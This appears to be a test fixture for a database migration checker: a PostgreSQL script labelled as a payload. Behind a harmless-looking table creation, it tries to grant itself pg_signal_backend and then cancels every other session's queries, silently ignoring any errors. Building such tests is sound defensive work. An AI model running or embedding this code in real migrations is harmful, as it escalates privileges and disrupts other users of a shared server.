-- tries: cancel the statements of everybody else on a given server, by pg_signal_backend
-- ways: check, check on superuser
-- exit: 0 or 1
-- script: 0001_payload.sql
create table notes (id bigint primary key, body text not null);
do $$
begin
  begin
    execute 'grant pg_signal_backend to current_user';
  exception when others then null;
  end;
  perform pg_cancel_backend(pid) from pg_stat_activity where pid <> pg_backend_pid();
exception when others then null;
end
$$;
